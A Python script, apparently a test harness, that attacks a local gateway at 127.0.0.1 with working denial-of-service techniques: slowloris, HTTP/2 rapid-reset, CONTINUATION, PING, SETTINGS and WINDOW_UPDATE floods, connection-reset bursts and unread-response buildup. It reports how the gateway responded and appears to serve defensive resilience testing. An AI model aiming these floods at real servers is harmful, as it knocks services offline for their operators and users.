"""Attacks on a gateway at 127.0.0.1:PORT, from raw sockets (Python standard library only).

Usage: gateway_attacks.py [--tls DIR] PORT KIND [SECONDS] [CONNECTIONS]

With --tls, every connection is an mTLS session (ALPN h2, then http/1.1) with the client's files
in DIR as a registration keeps them: tls.crt and tls.key presented, ca.crt trusted. Every kind
runs for SECONDS (default 3) and prints one JSON line with what it saw:

  busy-http1   CONNECTIONS connections each send a POST head declaring a body that never comes
               (half of them with `Expect: 100-continue`); each closed one is opened again.
  busy-http2   CONNECTIONS HTTP/2 connections each hold one stream open (HEADERS, no END_STREAM)
               and finish one request every second; each closed one is opened again.
  reset        connect, then reset (SO_LINGER 0) before the gateway accepts, as fast as possible.
  reset-burst  CONNECTIONS connections in a row connect, then reset; it ends early at the first
               connect not answered within 0.5 s (the kernel dropped its SYN: the gateway's queue
               of connections not yet accepted is full). `connections` is how many got in.
  h2-close     CONNECTIONS HTTP/2 connections each get one answer, then all close at once.
  slowloris    CONNECTIONS connections drip a request head one byte at a time.
  ping, settings, rst, continuation, window-update, empty-data
               HTTP/2 control-frame floods on CONNECTIONS connections (default 4), never reading
               what the gateway answers; each closed one is opened again. The first connection of
               each kind sends one burst, then reads until the gateway closes: `goaway` is the
               error code of the GOAWAY frame it got (11 is ENHANCE_YOUR_CALM), or null.
  unread       CONNECTIONS HTTP/2 connections (default 1) that never read what the gateway answers,
               with a small receive buffer and their receive windows opened wide, send GETs of a
               4,000-byte path not found (its answer repeats it), and every 0.1 s a POST with a
               body and one control frame of each flood's kind (within the flood bounds): paced
               for the first third of the time, so that the gateway keeps up and its answers pile
               up, then as fast as they can. `bytes` is how much they sent, `closed` how many the
               gateway closed.
"""
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK, static table only: :method GET (2), :scheme http (6), :path / (4), POST is 3; and
# :authority x (name index 1) or :path /healthz (name index 4) as literals without indexing.
AUTHORITY = b"\x01\x01x"
GET_ROOT = b"\x82\x86\x84" + AUTHORITY
POST_ROOT = b"\x83\x86\x84" + AUTHORITY
GET_HEALTHZ = b"\x82\x86\x04\x08/healthz" + AUTHORITY
# :path /aaa... (4,000 bytes), added to the HPACK dynamic table; afterwards its index (62) alone.
LONG_PATH = b"\x44\x7f\xa1\x1e/" + b"a" * 3999
GET_LONG_PATH = b"\x82\x86" + LONG_PATH + AUTHORITY
GET_INDEXED_PATH = b"\x82\x86\xbe" + AUTHORITY
# A literal header field, new name, never indexed: x-a: 32 bytes.
JUNK_HEADER = b"\x10\x03x-a\x20" + b"a" * 32

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


# The mTLS client context with --tls, else None (plaintext).
TLS = None


def tls_context(folder):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_verify_locations(os.path.join(folder, "ca.crt"))
    context.load_cert_chain(os.path.join(folder, "tls.crt"), os.path.join(folder, "tls.key"))
    context.set_alpn_protocols(["h2", "http/1.1"])
    return context


def connect(port, timeout=2.0, receive_buffer=None):
    s = socket.socket()
    if receive_buffer is not None:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    s.settimeout(timeout)
    s.connect(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return TLS.wrap_socket(s, server_hostname="127.0.0.1") if TLS else s


def send_round(socks, pending, next_batch):
    """Sends on each of `socks` that is writable what it has `pending`, else `next_batch(s)`, keeping
    what is left (a TLS write must be retried whole); closes and drops those the gateway closed.
    How many bytes it sent, and how many sockets it closed."""
    sent = 0
    closed = 0
    _, writable, _ = select.select([], socks, [], 0.05)
    for s in writable:
        batch = pending.pop(s, None) or next_batch(s)
        try:
            left = batch[s.send(batch):]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            left = batch
        except OSError:
            closed += 1
            s.close()
            socks.remove(s)
            continue
        sent += len(batch) - len(left)
        if left:
            pending[s] = left
    return sent, closed


def h2_connect(port):
    s = connect(port)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


class Flood:
    """Endless frames of one kind; `opening` goes first on each connection."""

    def __init__(self, kind):
        self.kind = kind
        self.stream = 1

    def opening(self):
        if self.kind == "empty-data":
            self.stream = 1
            return frame(HEADERS, END_HEADERS, 1, POST_ROOT)
        if self.kind == "continuation":
            return frame(HEADERS, 0, 1, GET_ROOT)
        self.stream = 1
        return b""

    def batch(self, count=64):
        out = []
        for _ in range(count):
            if self.kind == "ping":
                out.append(frame(PING, 0, 0, b"\x00" * 8))
            elif self.kind == "settings":
                out.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
            elif self.kind == "window-update":
                out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
            elif self.kind == "empty-data":
                out.append(frame(DATA, 0, 1))
            elif self.kind == "continuation":
                out.append(frame(CONTINUATION, 0, 1, JUNK_HEADER))
            elif self.kind == "rst":
                out.append(frame(HEADERS, END_HEADERS, self.stream, GET_ROOT))
                out.append(frame(RST_STREAM, 0, self.stream, struct.pack(">I", 8)))
                self.stream += 2
        return b"".join(out)


def read_frames(s, seconds):
    """Reads until the peer closes or `seconds` pass: the frame types seen, and a GOAWAY's code."""
    s.settimeout(seconds)
    data = b""
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    goaway = None
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        kind = data[at + 3]
        if kind == GOAWAY and at + 17 <= len(data):
            goaway = struct.unpack(">I", data[at + 13:at + 17])[0]
        at += 9 + length
    return goaway


def refill(socks, connections, open_one):
    """Opens connections with `open_one` until there are `connections`; how many it opened."""
    opened = 0
    while len(socks) < connections:
        try:
            socks.append(open_one())
            opened += 1
        except OSError:
            time.sleep(0.01)
            break
    return opened


def flood(port, kind, seconds, connections):
    source = Flood(kind)
    # One burst on a connection of its own, then read what the gateway says.
    probe = h2_connect(port)
    burst = source.opening() + b"".join(source.batch() for _ in range(80))
    try:
        probe.sendall(burst)
    except OSError:
        pass
    goaway = read_frames(probe, 3)
    probe.close()
    sent = 0
    opened = 0
    socks = []
    end = time.monotonic() + seconds
    def open_one():
        s = h2_connect(port)
        s.sendall(source.opening())
        s.setblocking(False)
        return s

    pending = {}
    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        sent += send_round(socks, pending, lambda s: source.batch())[0]
    for s in socks:
        s.close()
    return {"kind": kind, "goaway": goaway, "connections": opened, "bytes": sent}


def unread_batch(stream, controls, requests):
    """`requests` requests from stream `stream` on; with `controls`, a control frame of each kind."""
    out = []
    if controls:
        out += [
            frame(PING, 0, 0, b"\x00" * 8),
            frame(SETTINGS, 0, 0),
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            # The rapid-reset shape: a request, cancelled at once.
            frame(HEADERS, END_HEADERS, stream, GET_HEALTHZ),
            frame(RST_STREAM, 0, stream, struct.pack(">I", 8)),
            # A header block in two pieces.
            frame(HEADERS, END_STREAM, stream + 2, GET_HEALTHZ[:3]),
            frame(CONTINUATION, END_HEADERS, stream + 2, GET_HEALTHZ[3:]),
            # A POST with an empty DATA frame, then its body.
            frame(HEADERS, END_HEADERS, stream + 4, POST_ROOT),
            frame(DATA, 0, stream + 4),
            frame(DATA, END_STREAM, stream + 4, b"b" * 1024),
        ]
        stream += 6
    # GETs of a path not found, which the answer repeats (4 KiB each).
    for _ in range(requests):
        out.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_INDEXED_PATH))
        stream += 2
    return b"".join(out), stream


def unread(port, seconds, connections):
    socks = []
    for _ in range(connections):
        s = connect(port, receive_buffer=4096)
        # Windows opened as far as they go: flow control holds back none of the answers.
        s.sendall(
            PREFACE
            + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
            + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_LONG_PATH)
        )
        s.setblocking(False)
        socks.append(s)
    streams = {s: 3 for s in socks}
    # When each connection last sent control frames: 6 every 0.1 s, within the flood bounds.
    controlled = {s: 0.0 for s in socks}
    pending = {}
    sent = 0
    closed = 0
    start = time.monotonic()
    end = start + seconds
    while socks and time.monotonic() < end:
        # A third of the time paced, as a client the gateway keeps up with (a batch every 2 ms),
        # so that its answers pile up; then as fast as it can.
        paced = time.monotonic() - start < seconds / 3
        if paced:
            time.sleep(0.002)

        def next_batch(s):
            controls = time.monotonic() - controlled[s] >= 0.1
            if controls:
                controlled[s] = time.monotonic()
            batch, streams[s] = unread_batch(streams[s], controls, 8 if paced else 4096)
            return batch

        round_sent, round_closed = send_round(socks, pending, next_batch)
        sent += round_sent
        closed += round_closed
    for s in socks:
        s.close()
    return {"kind": "unread", "connections": connections, "bytes": sent, "closed": closed}


def busy_http1(port, seconds, connections):
    opened = 0
    continued = 0
    socks = []
    end = time.monotonic() + seconds
    def open_one():
        s = connect(port)
        # Every other one waits for 100 Continue before it would send the body.
        expect = b"Expect: 100-continue\r\n" if (opened + len(socks)) % 2 else b""
        s.sendall(b"POST /healthz HTTP/1.1\r\nHost: x\r\n" + expect + b"Content-Length: 9\r\n\r\n")
        return s

    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        readable, _, _ = select.select(socks, [], [], 0.1)
        for s in readable:
            try:
                # 100 Continue is fine; an end or reset means the gateway closed it.
                data = s.recv(4096)
                if data:
                    continued += data.startswith(b"HTTP/1.1 100 Continue\r\n")
                    continue
            except OSError:
                pass
            s.close()
            socks.remove(s)
    for s in socks:
        s.close()
    return {"kind": "busy-http1", "connections": opened, "continued": continued}


def busy_http2(port, seconds, connections):
    opened = 0
    finished = 0
    socks = []
    end = time.monotonic() + seconds
    last_round = 0.0
    def open_one():
        s = h2_connect(port)
        # Stream 1 stays open: a POST whose body never ends.
        s.sendall(frame(HEADERS, END_HEADERS, 1, POST_ROOT))
        return [s, 3]

    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        if time.monotonic() - last_round >= 1.0:
            last_round = time.monotonic()
            for entry in list(socks):
                s, stream = entry
                try:
                    s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_HEALTHZ))
                    entry[1] += 2
                    finished += 1
                except OSError:
                    s.close()
                    socks.remove(entry)
        readable, _, _ = select.select([e[0] for e in socks], [], [], 0.1)
        for s in readable:
            try:
                if s.recv(65536):
                    continue
            except OSError:
                pass
            s.close()
            socks[:] = [e for e in socks if e[0] is not s]
    for s, _ in socks:
        s.close()
    return {"kind": "busy-http2", "connections": opened, "requests": finished}


def h2_close(port, connections):
    socks = []
    answered = 0
    for _ in range(connections):
        s = h2_connect(port)
        s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_HEALTHZ))
        socks.append(s)
    for s in socks:
        data = b""
        s.settimeout(2)
        try:
            while b"ok" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        answered += b"ok" in data
    for s in socks:
        s.close()
    return {"kind": "h2-close", "connections": connections, "answered": answered}


def reset(port, seconds):
    count = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.connect(("127.0.0.1", port))
            s.close()
            count += 1
        except OSError:
            pass
    return {"kind": "reset", "connections": count}


def reset_burst(port, connections):
    count = 0
    for _ in range(connections):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.settimeout(0.5)
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            break
        finally:
            s.close()
        count += 1
    return {"kind": "reset-burst", "connections": count}


def slowloris(port, seconds, connections):
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Drip: " + b"d" * 10000
    socks = []
    opened = 0
    end = time.monotonic() + seconds
    at = 0
    while time.monotonic() < end:
        opened += refill(socks, connections, lambda: connect(port))
        for s in list(socks):
            try:
                s.send(head[at % len(head):at % len(head) + 1])
            except OSError:
                s.close()
                socks.remove(s)
        at += 1
        time.sleep(0.05)
    for s in socks:
        s.close()
    return {"kind": "slowloris", "connections": opened}


def main():
    global TLS
    args = sys.argv[1:]
    if args[0] == "--tls":
        TLS = tls_context(args[1])
        args = args[2:]
    port = int(args[0])
    kind = args[1]
    seconds = float(args[2]) if len(args) > 2 else 3.0
    connections = int(args[3]) if len(args) > 3 else None
    if kind == "busy-http1":
        result = busy_http1(port, seconds, connections or 128)
    elif kind == "busy-http2":
        result = busy_http2(port, seconds, connections or 128)
    elif kind == "h2-close":
        result = h2_close(port, connections or 100)
    elif kind == "reset":
        result = reset(port, seconds)
    elif kind == "reset-burst":
        result = reset_burst(port, connections)
    elif kind == "slowloris":
        result = slowloris(port, seconds, connections or 500)
    elif kind == "unread":
        result = unread(port, seconds, connections or 1)
    else:
        result = flood(port, kind, seconds, connections or 4)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
